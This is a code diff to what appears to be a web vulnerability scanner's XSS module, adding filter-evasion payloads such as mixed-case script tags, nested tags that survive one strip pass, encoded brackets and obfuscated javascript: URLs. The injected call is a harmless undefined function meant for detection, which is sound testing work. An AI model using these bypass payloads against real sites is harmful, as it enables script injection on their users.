@@ -1,7 +1,11 @@
 """Payloads of `xss`: for each context the smallest text that leaves it and stands where scripts stand.
 
 `value` stands for the baseline's value, `call` for a call of a function that nobody defined: were it run, it would do
-nothing but fail. `mark` is fresh letters.
+nothing but fail. `name` is that function's, `mark` is fresh letters.
+
+Where that text comes back changed, others are written as the usual filters let them through: those that look for single
+words, for small letters, for blanks or brackets, that take out once what they find, that change the first sign only, and
+applications that undo escapes after they have escaped. What a filter that takes out may let through is asked all at once.
 """
 
 from gatecrash.core.testing.oracles.reflection import (
@@ -41,6 +45,61 @@ _IN_SCRIPT = {
     BLOCK_COMMENT: ("{value}*/{call}/*",),
     REGEX: ("{value}/-{call}-/",),
 }
+# Past filters: each is without something that they may look for.
+_OTHERWISE = ("<I/ONCLICK={call}>", "<i onclick={name}&lpar;&rpar;>", "<i onclick={call} {mark}=")
+_BY_SCRIPT = ("<ScRiPt>{call}</sCrIpT>", "<a href=javascript:{call}>")
+# What one pass of a filter that takes out makes markup of.
+_TAKEN_OUT_ONCE = ("<<i>i onclick={call}>", "<i oonclick=nclick={call}>", "<i oonnclick={call}>")
+_SCRIPT_TAKEN_OUT_ONCE = ("<scr<script>ipt>{call}</scr</script>ipt>",)
+# What is markup once the first sign was changed, or the address's escapes, the page's or wide letters are read again.
+_READ_AGAIN = ("<>" + _ELEMENT, "%3Ci onclick={call}%3E", "&lt;i onclick={call}&gt;", "\uff1ci onclick={call}\uff1e")
+_QUOTED_AGAIN = {
+    '"': ('"" onclick={call} {mark}="', "%22 onclick={call} {mark}=%22", "&quot; onclick={call} {mark}=&quot;"),
+    "'": ("'' onclick={call} {mark}='", "%27 onclick={call} {mark}=%27", "&#39; onclick={call} {mark}=&#39;"),
+}
+# Blanks within fall away, as signs before; a comment to its line's end that looks like a host; and what one pass leaves.
+_ADDRESSES = (
+    "\x01JaVa\tScRiPt:{call}",
+    "javascript://{mark}.example/%0A{call}",
+    "javajavascript:script:{call}",
+)
+
+Group = tuple[str, ...]
+WHOLE, CUT, REFUSED = "whole", "cut", "refused"
+_LEAVES = (TEXT, RAW_TEXT, COMMENTED, ATTRIBUTE, URL)
+
+
+def past_filters(place: Place, shown: str) -> tuple[Group, ...]:
+    """More patterns, for a place that shows no payload as it was sent; those of one group are sent as one first.
+
+    shown: WHOLE where a payload was shown, as text; CUT where its letters were, so that all is asked at once; REFUSED where
+    they were not, and one of several would have the others refused.
+    """
+    if place.name == IN_XML or place.kind not in _LEAVES:
+        return ()
+    if place.kind == URL:
+        return () if shown == WHOLE else tuple((each,) for each in _ADDRESSES)
+    again = _behind_value(_READ_AGAIN, place)
+    if shown == WHOLE:
+        quoted = _behind_value(_QUOTED_AGAIN.get(place.quote, ()))
+        return (again,) if place.kind == TEXT else (quoted,) if place.kind == ATTRIBUTE and quoted else ()
+    if shown == CUT:
+        # What is left open takes in what stands behind it.
+        by_events = _behind_value((*_TAKEN_OUT_ONCE, *_OTHERWISE), place)
+        return (by_events, _behind_value((*_BY_SCRIPT, *_SCRIPT_TAKEN_OUT_ONCE), place), again)
+    within = f"{{value}}{place.quote}/ONCLICK={{call}}/{{mark}}={place.quote}"
+    alone = tuple(_behind_value((each,), place) for each in (*_OTHERWISE, *_BY_SCRIPT))
+    return (*(((within,),) if place.quote else ()), *alone, again)
+
+
+def _behind_value(patterns: Group, place: Place | None = None) -> Group:
+    """The patterns behind the value, and behind what leaves the place."""
+    leaving = (
+        {RAW_TEXT: f"</{place.name}>", COMMENTED: "-->", ATTRIBUTE: f"{place.quote}>"}.get(place.kind, "")
+        if place
+        else ""
+    )
+    return tuple(f"{{value}}{leaving}{each}" for each in patterns)
 
 
 def payloads_for(place: Place) -> tuple[str, ...]:
